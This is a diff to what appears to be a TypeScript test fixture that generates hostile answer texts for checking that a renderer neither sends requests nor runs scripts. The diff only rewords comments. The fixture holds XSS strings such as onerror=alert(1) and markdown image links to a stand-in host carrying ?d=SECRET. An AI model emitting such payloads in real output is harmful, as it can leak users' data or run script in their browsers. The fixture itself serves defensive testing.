@@ -1,9 +1,9 @@
 /**
- * Answers as a hostile page could cause them: everything known to make a careless renderer send a request, run a script or show a
- * link that does, in every position of an answer.
+ * Answers that a hostile page could cause: everything known to make a careless renderer send a request, run a script or
+ * show a link that does, in every position of an answer.
  */
 
-/** The target of the requests. Nothing in these answers may ever request it. */
+/** The target of the requests. Nothing in these answers may ever cause a request to it. */
 export const ATTACKER = 'attacker.test';
 
 const URL = `https://${ATTACKER}/p?d=SECRET`;
@@ -90,7 +90,7 @@ const SCRIPTS: Record<string, string> = {
   'attribute-break': '![" onerror="alert(1)](x)',
 };
 
-/** Whole blocks, which fit into no carrier. */
+/** Whole blocks, which do not fit into any carrier. */
 const BLOCKS: Record<string, string> = {
   'image-reference': `![x][r]\n\n[r]: ${URL}`,
   'image-shortcut': `![r]\n\n[r]: <${URL}> 'logo'`,
@@ -107,7 +107,7 @@ const BLOCKS: Record<string, string> = {
   processing: '<?x ?><img src=x onerror=alert(1)>',
 };
 
-/** The positions in an answer. None may make the content effective. */
+/** The positions in an answer. The content must have no effect in any of them. */
 const CARRIERS: Record<string, (text: string) => string> = {
   alone: (text) => text,
   'in a sentence': (text) => `The tide **rises** ${text} twice a day.`,
@@ -121,7 +121,7 @@ const CARRIERS: Record<string, (text: string) => string> = {
 
 export type HostileAnswer = { id: string; text: string; kind: 'request' | 'script' | 'block' };
 
-/** All of them, in a stable order. */
+/** All hostile answers, in a stable order. */
 export function hostileAnswers(): HostileAnswer[] {
   const carried = (kind: 'request' | 'script', texts: Record<string, string>) =>
     Object.entries(texts).flatMap(([name, text]) =>
